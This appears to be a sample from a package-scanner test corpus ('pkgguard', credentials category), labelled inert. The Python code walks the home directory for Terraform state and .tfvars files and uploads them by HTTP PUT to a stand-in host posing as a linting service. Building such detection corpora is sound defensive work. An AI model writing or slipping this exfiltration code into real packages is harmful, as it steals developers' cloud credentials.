# pkgguard corpus 764 (credentials), modelled on [developer-persistence]; inert, never run.
import os

import requests

home = os.path.expanduser("~")
states = []
for root, dirs, files in os.walk(home):
    dirs[:] = [d for d in dirs if d not in ("node_modules", ".git", ".venv")]
    for name in files:
        if name in ("terraform.tfstate", "terraform.tfstate.backup") or name.endswith(".tfvars"):
            states.append(os.path.join(root, name))
    if len(states) > 40:
        break
session = requests.Session()
for path in states:
    with open(path, "rb") as fh:
        session.put(f"https://iac-lint.example/state/{os.path.basename(os.path.dirname(path))}", data=fh.read(), timeout=20)
